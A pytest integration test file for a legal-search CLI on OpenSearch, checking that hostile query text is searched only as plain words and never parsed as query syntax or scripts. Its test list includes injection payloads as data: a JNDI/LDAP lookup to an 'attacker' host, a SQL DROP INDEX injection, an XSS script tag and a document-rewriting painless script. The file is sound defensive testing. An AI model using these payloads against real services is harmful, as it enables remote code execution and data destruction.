"""Query text is data, never DSL: Lucene syntax, JSON, scripts and very long strings are searched as words.

On the real node: each hostile query is sent by ``legalsearch search`` (the command a user or an application's
wrapper runs), comes back without error, and appears in the DSL only as the value of the ``match`` clause. A
query-string parser would turn ``*:*`` into match-all, ``_id:stat-001`` into an id lookup and ``text:*`` into an
exists query; a match query finds only documents containing the words.
"""

from __future__ import annotations

import json
import re
import uuid

import pytest
from click.testing import CliRunner

from legalsearch.plugin.connection import connect, resolve_settings
from legalsearch.plugin.deploy import DeployOptions, deploy, undeploy_everything
from legalsearch.plugin.search import MAX_QUERY_CHARS
from legalsearch.plugin.testing import FakeEncoder

pytestmark = pytest.mark.opensearch

N_DOCS = 20


@pytest.fixture(scope="module")
def cluster(opensearch_url):
    return connect(resolve_settings(url=opensearch_url))


@pytest.fixture(scope="module")
def alias(cluster, tmp_path_factory):
    from legalsearch.data import sample_dataset_path

    name = f"qt-{uuid.uuid4().hex[:8]}"
    lines = (sample_dataset_path() / "corpus.jsonl").read_text(encoding="utf-8").splitlines()[:N_DOCS]
    folder = tmp_path_factory.mktemp("qt")
    (folder / "corpus.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    deploy(cluster, folder / "corpus.jsonl", DeployOptions(alias=name, vectors="client", progress=False,
                                                            state_dir=folder / "state"),
           encoder=FakeEncoder(dimension=16))
    yield name
    undeploy_everything(cluster, name)


def _search(opensearch_url, alias, query):
    from legalsearch.cli import cli

    return CliRunner().invoke(cli, ["search", query, "--mode", "bm25", "--index", alias, "--url", opensearch_url,
                                    "--json", "--print-dsl", "-k", str(N_DOCS)])


NONE = frozenset()
WORDS = "the same hits as its words alone"
HOSTILE = [
    # (query, what the hits must be: NONE, WORDS (the hits of the query with every non-word character replaced by
    # a space, in the same order), or a predicate on the ids)
    ("*:*", NONE),  # query_string would match every document
    ("_id:stat-001", WORDS),  # query_string would fetch exactly that id
    ("title:* AND text:*", WORDS),  # query_string: every document that has both fields
    ('{"query": {"match_all": {}}}', WORDS),
    ('{"script": {"source": "ctx._source.title = \'pwned\'", "lang": "painless"}}', WORDS),
    ("doc['title'].value + params._source", WORDS),
    ("/.*/", NONE),  # query_string: a regexp over every term
    ("summary~2 judgment^100", WORDS),
    ('"unbalanced (((', WORDS),  # query_string: a parse error
    ("\\", NONE),
    ("' OR 1=1; DROP INDEX legalsearch; --", WORDS),
    ("${jndi:ldap://attacker/a}", WORDS),
    ("<script>alert(1)</script>", WORDS),
    ("NUL\u0000inside", WORDS),
    ("Fed. R. Civ. P. 56 — summary judgment 🧑‍⚖️", lambda ids: "stat-008" in ids),
]


def _hit_ids(output: str) -> list[str]:
    return [hit["doc_id"] for hit in json.loads(output)["hits"]]


@pytest.mark.parametrize("query, expected", HOSTILE, ids=[q for q, _ in HOSTILE])
def test_hostile_query_text_is_searched_as_words(opensearch_url, cluster, alias, query, expected):
    result = _search(opensearch_url, alias, query)
    assert result.exit_code == 0, result.output
    out = json.loads(result.output)
    # the text is the value of the match clause, verbatim, and nowhere else a parser could read it
    should = out["dsl"]["query"]["bool"]["should"]
    assert should[0] == {"match": {"content": {"query": query}}}
    assert all("query_string" not in json.dumps(clause) and "script" not in clause for clause in should)
    ids = _hit_ids(result.output)
    if expected is NONE:
        assert ids == [], ids
    elif expected is WORDS:
        words = re.sub(r"[^\w]+", " ", query).strip()
        plain = _search(opensearch_url, alias, words)
        assert plain.exit_code == 0, plain.output
        assert ids == _hit_ids(plain.output), (query, words)
    else:
        assert expected(set(ids)), ids
    # and nothing was written: the document a script would have changed is as deployed
    assert "pwned" not in cluster.request("GET", f"/{alias}/_doc/stat-001")["_source"]["title"]


def test_query_at_the_length_limit_is_accepted_by_the_node(opensearch_url, alias):
    # the worst case for the clause count: every character a token of its own
    worst = ("契" * MAX_QUERY_CHARS, ("judgment " * MAX_QUERY_CHARS)[:MAX_QUERY_CHARS],
             " ".join("1" * MAX_QUERY_CHARS)[:MAX_QUERY_CHARS])
    for query in worst:
        assert len(query) == MAX_QUERY_CHARS
        result = _search(opensearch_url, alias, query)
        assert result.exit_code == 0, result.output[-2000:]


def test_query_over_the_limit_is_refused_with_a_clear_message(opensearch_url, alias):
    result = _search(opensearch_url, alias, "breach " * 40_000)
    assert result.exit_code == 1
    assert f"the query is {len('breach ' * 40_000):,} characters long; the limit is {MAX_QUERY_CHARS:,}" in result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize("query", ["", "   "])
def test_empty_query_is_refused(opensearch_url, alias, query):
    result = _search(opensearch_url, alias, query)
    assert result.exit_code == 1 and "the query is empty" in result.output, result.output
